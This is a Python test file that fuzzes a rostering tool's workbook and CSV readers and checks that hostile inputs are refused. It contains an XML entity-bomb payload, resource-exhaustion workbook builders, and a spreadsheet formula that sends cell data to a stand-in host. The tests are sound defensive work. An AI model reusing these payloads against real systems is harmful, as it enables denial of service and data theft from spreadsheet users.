"""Whatever a user or a stranger hands us: random bytes, mutated workbooks, XML bombs, formulas."""

from __future__ import annotations

import dataclasses
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from roster import api
from roster.domain import Request, Staff
from roster.errors import InputError
from roster.io.hr import read_availability
from roster.io.roster_in import read_roster
from roster.io.template import write_problem
from roster.io.workbook import read_problem
from roster.present.roster_workbook import write_result

SAMPLES = Path(__file__).parent.parent / "sample_inputs"
SAMPLE = SAMPLES / "call_center.xlsx"
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))


@pytest.fixture(scope="module")
def problem():
    return api.load_problem(SAMPLE)


def readers(problem):  # type: ignore[no-untyped-def]
    return (
        read_problem,
        lambda p: read_roster(p, problem),
        lambda p: read_availability(p, problem),
    )


def read_all(path: Path, problem) -> None:  # type: ignore[no-untyped-def]
    """Every reader either reads the file or raises InputError; nothing else escapes."""
    for read in readers(problem):
        try:
            read(path)
        except InputError as error:
            assert error.issues and all(str(issue) for issue in error.issues)


@FUZZ
@given(data=st.binary(max_size=2000), suffix=st.sampled_from([".xlsx", ".csv"]))
def test_random_bytes_never_give_a_traceback(tmp_path_factory, problem, data, suffix):
    path = tmp_path_factory.mktemp("fuzz") / f"random{suffix}"
    path.write_bytes(data)
    read_all(path, problem)


@FUZZ
@given(text=st.text(max_size=400), encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030"]))
def test_random_csv_text_never_gives_a_traceback(tmp_path_factory, problem, text, encoding):
    path = tmp_path_factory.mktemp("fuzz") / "hr.csv"
    path.write_bytes(text.encode(encoding))
    read_all(path, problem)


CELL_VALUES = st.one_of(
    st.none(),
    st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=12),
    st.integers(-(10**6), 10**6),
    st.floats(allow_nan=True, allow_infinity=False),
    st.booleans(),
    st.dates(),
    st.sampled_from(["24:00", "25:00", "9点", "A+C", "=1+1", "daily", "leave", "休", "S01"]),
)


@FUZZ
@given(
    edits=st.lists(
        st.tuples(
            st.sampled_from(["Shifts", "Staff", "Coverage", "Availability", "Rules", "Settings"]),
            st.integers(1, 8),
            st.integers(1, 8),
            CELL_VALUES,
        ),
        min_size=1,
        max_size=6,
    ),
    drop=st.none() | st.sampled_from(["Shifts", "Staff", "Settings", "Coverage"]),
)
def test_mutated_workbooks_never_give_a_traceback(tmp_path_factory, problem, edits, drop):
    book = openpyxl.load_workbook(SAMPLE)
    for sheet, row, column, value in edits:
        book[sheet].cell(row, column).value = value
    if drop:
        del book[drop]
    path = tmp_path_factory.mktemp("fuzz") / "mutated.xlsx"
    book.save(path)
    read_all(path, problem)


@FUZZ
@given(cut=st.integers(10, 9000), flip=st.integers(0, 255))
def test_damaged_zip_bytes_never_give_a_traceback(tmp_path_factory, problem, cut, flip):
    data = bytearray(SAMPLE.read_bytes())
    data[cut % len(data)] ^= flip
    path = tmp_path_factory.mktemp("fuzz") / "damaged.xlsx"
    path.write_bytes(bytes(data[: max(cut, len(data) // 2)]))
    read_all(path, problem)


BOMB_DTD = """
<!DOCTYPE lolz [
 <!ENTITY lol "lollollollollollollollollollol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>"""


def test_an_xml_entity_bomb_is_refused_quickly(tmp_path, problem):
    assert openpyxl.xml.DEFUSEDXML, "defusedxml must be installed: openpyxl only uses it if present"
    source = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.title = "Shifts"
    book.active.append(["code", "name"])
    book.active.append(["A", "bomb"])
    book.save(source)
    path = tmp_path / "bomb.xlsx"
    with (
        zipfile.ZipFile(io.BytesIO(source.getvalue())) as original,
        zipfile.ZipFile(path, "w") as bombed,
    ):
        for item in original.infolist():
            data = original.read(item.filename)
            if item.filename in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"):
                data = _with_bomb(data.decode())
            bombed.writestr(item, data)
    with pytest.raises(InputError) as raised:  # refused, not expanded to gigabytes
        read_problem(path)
    assert "cannot be read as an Excel workbook" in str(raised.value)


def _with_bomb(xml: str) -> str:
    """The part with the entity declarations after its XML declaration, and `bomb` expanded."""
    declaration, _, body = xml.partition("?>")
    return declaration + "?>" + BOMB_DTD + body.replace("bomb", "&lol9;")


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path, problem):
    attacker = '=HYPERLINK("http://example.invalid/steal?x="&A1,"click me")'
    staff = (dataclasses.replace(problem.staff[0], name=attacker), *problem.staff[1:])
    result = api.solve(dataclasses.replace(problem, staff=staff))
    path = tmp_path / "out.xlsx"
    write_result(result, path)
    sheet = openpyxl.load_workbook(path)["Roster"]
    cell = sheet["B2"]
    assert cell.value == attacker
    assert cell.data_type == "s"  # a string, not a formula Excel would run
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml


def test_a_10000_row_availability_sheet_loads(tmp_path, problem):
    staff = tuple(Staff(id=f"X{i:05d}", name=f"Person {i}") for i in range(2000))
    requests = tuple(
        Request(staff_id=f"X{i % 2000:05d}", day=i % problem.num_days, kind="prefer_off")
        for i in range(10000)
    )
    big = dataclasses.replace(problem, staff=problem.staff + staff, requests=requests)
    path = tmp_path / "big.xlsx"
    write_problem(big, path)
    loaded = read_problem(path)
    assert len(loaded.requests) == len(set(requests)) and len(loaded.staff) == 2004


# --- small files that would take big resources ---------------------------------------------------

MEASURED = """
import runpy, sys, time
began = time.perf_counter()
sys.argv = ["roster", *sys.argv[1:]]
try:
    runpy.run_module("roster", run_name="__main__")
except SystemExit as done:
    code = done.code
# the peak of this program's memory (VmHWM: ru_maxrss would keep the parent's, before exec)
with open("/proc/self/status") as status:
    peak = next(int(line.split()[1]) for line in status if line.startswith("VmHWM"))
print(f"MEASURED {time.perf_counter() - began:.2f} {peak // 1024}", file=sys.stderr)
sys.exit(code)
"""


def rewritten(target: Path, change) -> Path:  # type: ignore[no-untyped-def]
    with (
        zipfile.ZipFile(SAMPLE) as source,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for item in source.infolist():
            out.writestr(item, change(item.filename, source.read(item.filename)))
    return target


def whole_sheet_declared(name: str, data: bytes) -> bytes:
    """Sheet 1 declares every cell of a worksheet and holds 40,000 one-cell rows."""
    if name != "xl/worksheets/sheet1.xml":
        return data
    rows = "".join(f'<row r="{r}"><c r="A{r}" t="n"><v>1</v></c></row>' for r in range(100, 40100))
    text = re.sub(r'<dimension ref="[^"]*"\s*/>', '<dimension ref="A1:XFD1048576"/>', data.decode())
    return text.replace("</sheetData>", rows + "</sheetData>").encode()


def two_million_strings(target: Path) -> Path:
    relation = (
        b'<Relationship Id="rIdSS" Target="sharedStrings.xml" Type="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>'
    )
    kind = (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )

    def change(name: str, data: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", relation)
        return data.replace(b"</Types>", kind) if name == "[Content_Types].xml" else data

    rewritten(target, change)
    table = "".join(f"<si><t>u{i}</t></si>" for i in range(2_000_000))
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as out:
        out.writestr(
            "xl/sharedStrings.xml",
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'count="2000000" uniqueCount="2000000">{table}</sst>',
        )
    return target


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="measures memory in /proc")
@pytest.mark.parametrize(
    ("make", "limit"),
    [
        (
            lambda tmp: rewritten(tmp / "input.xlsx", whole_sheet_declared),
            "sheet Shifts has more than 1,000 rows below its header; expected at most 1,000",
        ),
        (
            lambda tmp: two_million_strings(tmp / "input.xlsx"),
            "it declares 2,000,000 distinct texts; expected at most 1,000,000",
        ),
    ],
    ids=["declared dimension and 40,000 rows", "2,000,000 shared strings"],
)
def test_a_small_file_that_would_take_big_resources_is_refused_fast(tmp_path, make, limit):
    path = make(tmp_path)
    done = subprocess.run(
        [sys.executable, "-c", MEASURED, "check", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2, done.stderr
    assert f"Error: input.xlsx: is too large to be a roster's workbook: {limit}" in done.stderr
    seconds, megabytes = done.stderr.split("MEASURED ")[1].split()
    assert float(seconds) < 5 and int(megabytes) < 300, (seconds, megabytes)
